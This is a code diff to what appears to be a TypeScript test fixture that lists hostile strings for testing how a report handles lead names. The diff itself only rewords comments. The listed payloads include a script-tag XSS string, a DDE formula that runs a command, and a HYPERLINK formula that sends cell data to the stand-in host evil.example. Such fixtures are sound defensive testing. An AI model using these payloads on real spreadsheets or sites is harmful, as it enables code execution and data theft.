@@ -1,4 +1,4 @@
-/** What a lead may be called to do harm: each of these is once the name of everything in a report. */
+/** Harmful names for leads. Each of them is used once for everything in a report that has a name. */
 
 const SCRIPTS = [
   '<script>alert(1)</script>',
@@ -94,7 +94,7 @@ const LONG = [
   '👩‍👩‍👧‍👦'.repeat(300),
 ]
 
-/** What a spreadsheet would run. */
+/** Texts that a spreadsheet would run as formulas. */
 const FORMULAS = [
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
@@ -119,7 +119,7 @@ export const PAYLOADS: readonly string[] = [
   ...FORMULAS,
 ]
 
-/** With a title short enough for a line of the test report. */
+/** The same payloads, with titles that fit into one line of the test report. */
 export const TITLED_PAYLOADS = PAYLOADS.map((payload) => ({
   payload,
   shown: JSON.stringify(payload).slice(0, 44),
